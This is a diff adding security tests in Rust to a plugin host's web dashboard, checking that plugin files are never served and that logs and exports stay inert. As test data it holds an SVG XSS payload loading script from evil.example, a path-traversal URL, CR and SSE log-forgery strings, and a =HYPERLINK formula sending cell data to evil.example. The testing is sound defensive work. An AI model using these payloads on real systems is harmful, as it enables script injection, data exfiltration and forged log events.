@@ -1,4 +1,9 @@
-//! WEB-01: what a plugin supplies is text in every page, whatever it is.
+//! What a plugin supplies is text in every page, whatever it is (WEB-01), its files are served to nobody (WEB-02), and one record of
+//! it stays one (WEB-06).
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpStream;
+use std::time::Duration;
 
 use ringfence_api::Role;
 use serde_json::json;
@@ -111,4 +116,119 @@ fn web_01_what_a_plugin_says_while_it_runs_is_text_too() {
     let list = admin.open("/dashboard");
     assert!(list.contains("errored"), "{list}");
     is_inert(&list, "the list");
+}
+
+#[test]
+fn web_02_no_file_of_a_package_is_served_whatever_its_manifest_calls_it() {
+    let rig = Rig::new();
+    let package = rig.package("p", "1.0.0", "", &["hi"], "def hi(a):\n    return 1\n");
+    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script href='http://evil.example/x.js'/></svg>";
+    std::fs::create_dir_all(package.join("static")).unwrap();
+    for file in ["icon.svg", "README.html", "static/icon.svg", "static/index.html", "favicon.ico"] {
+        std::fs::write(package.join(file), svg).unwrap();
+    }
+    rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true}))).ok();
+    let mut admin = Browser::with_role(&rig, Role::Admin);
+    let details = admin.open("/dashboard/plugins/p");
+    assert!(!details.contains("<img") && !details.contains("evil.example"), "{details}");
+    for path in [
+        "/dashboard/plugins/p/icon.svg",
+        "/dashboard/plugins/p/README.html",
+        "/dashboard/plugins/p/static/index.html",
+        "/dashboard/static/icon.svg",
+        "/dashboard/static/p/icon.svg",
+        "/dashboard/static/..%2f..%2fplugins%2fp%2ficon.svg",
+        "/favicon.ico",
+        "/icon.svg",
+    ] {
+        let answer = admin.get(path);
+        assert!(matches!(answer.status, 401 | 404), "{path}: {}", answer.status);
+        assert!(!page(&answer).contains("onload"), "{path}");
+        is_protected(&answer, path);
+    }
+    // The twin: our own icon is, as an image, under a policy that lets nothing in it run.
+    let at = details.find("/dashboard/static/icon-").unwrap();
+    let ours = details[at..].split('"').next().unwrap();
+    let answer = admin.get(ours);
+    assert_eq!((answer.status, answer.header("content-type")), (200, Some("image/svg+xml")));
+    is_protected(&answer, ours);
+    // And what asks for an icon of its own in its manifest is refused, as whatever a manifest does not know.
+    let other = rig.package("q", "1.0.0", "icon: icon.svg\n", &["hi"], "");
+    assert_eq!(rig.send(&post("/plugins", &json!({"path": other}))).status, 422);
+}
+
+#[test]
+fn web_06_one_line_of_a_log_stays_one_and_forges_no_event() {
+    let rig = Rig::new();
+    let forged = [
+        "one\rtwo",
+        "one\u{2028}two\u{2029}three\u{85}four",
+        "{\"at_ms\":1,\"source\":\"host\",\"level\":\"error\",\"message\":\"forged\"}",
+        "data: x\revent: plugin\rdata: {\"kind\":{\"event\":\"forged\"}}\r\r",
+        "id: 99999",
+    ];
+    let text = serde_json::to_string(&forged).unwrap();
+    let code = format!(
+        "import json, sys\ndef hi(a):\n    return 1\nfor line in json.loads({}):\n    sys.stderr.write(line + '\\n')\nsys.stderr.write('the end\\n')\n",
+        serde_json::to_string(&text).unwrap()
+    );
+    let mut stream = TcpStream::connect(rig.address).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    let mut viewer = Browser::with_role(&rig, Role::Viewer);
+    stream.write_all(&viewer.request("GET", "/dashboard/stream").bytes(rig.address)).unwrap();
+    rig.active("p", "", &["hi"], &code);
+    let shown = (0..500)
+        .find_map(|_| {
+            std::thread::sleep(Duration::from_millis(20));
+            Some(viewer.open("/dashboard/plugins/p/logs")).filter(|shown| shown.contains("the end"))
+        })
+        .unwrap();
+    // A row each, and what it says of its source is not what it says in its text.
+    let rows: Vec<&str> = shown.split("<tr>").filter(|row| row.contains("stderr")).collect();
+    assert_eq!(rows.len(), forged.len() + 1, "{shown}");
+    assert!(rows.iter().any(|row| row.contains("&quot;message&quot;:&quot;forged&quot;")), "{shown}");
+    assert!(!shown.contains(">host<"), "{shown}");
+    is_inert(&shown, "the log");
+    // The same of what is asked of it, as a record of the trail and of the activity: its name is what was asked for.
+    rig.send(&post("/plugins/p/call", &json!({"tool": "hi\r\nevent: plugin"})));
+    for path in ["/dashboard/audit", "/dashboard/activity", "/dashboard/plugins/p/activity"] {
+        is_inert(&viewer.open(path), path);
+    }
+    rig.send(&crate::client::request("POST", "/plugins/p/deactivate")).ok();
+    // All that came by the stream is events that the host has sent.
+    let mut heard = Vec::new();
+    let mut some = [0; 4_096];
+    while !String::from_utf8_lossy(&heard).contains("\"ended\"") {
+        let count = stream.read(&mut some).unwrap();
+        assert_ne!(count, 0, "{}", String::from_utf8_lossy(&heard));
+        heard.extend_from_slice(&some[..count]);
+    }
+    let heard = String::from_utf8_lossy(&heard).into_owned();
+    assert!(!heard.replace("\r\n", "").contains('\r'), "a line end of an event stream: {heard}");
+    let field = |name: &str| -> Vec<String> {
+        heard.lines().filter_map(|line| line.strip_prefix(&format!("{name}: "))).map(str::to_owned).collect()
+    };
+    assert!(
+        field("event").iter().all(|event| event == "plugin") && !field("id").contains(&"99999".to_owned())
+    );
+    let events: Vec<serde_json::Value> =
+        field("data").iter().map(|data| serde_json::from_str(data).unwrap()).collect();
+    let of = |kind: &str| events.iter().filter(|event| event["kind"]["event"] == kind).count();
+    assert_eq!((of("log"), of("forged")), (forged.len() + 1, 0), "{heard}");
+}
+
+#[test]
+fn web_08_what_a_spreadsheet_would_reckon_is_text_and_nothing_is_exported() {
+    let rig = Rig::new();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let package = rig.package("p", "1.0.0", &format!("description: '{formula}'\n"), &["hi"], "");
+    rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true}))).ok();
+    let mut admin = Browser::with_role(&rig, Role::Admin);
+    let list = admin.open("/dashboard");
+    assert!(list.contains("=HYPERLINK(&quot;") && !list.contains("evil.example/?\""), "{list}");
+    for path in ["/dashboard", "/dashboard/audit", "/dashboard/activity", "/dashboard/plugins/p/logs"] {
+        let answer = admin.get(&format!("{path}?format=csv"));
+        assert!(answer.header("content-type").unwrap().starts_with("text/html"), "{path}");
+        assert_eq!(answer.header("content-disposition"), None, "{path}");
+    }
 }
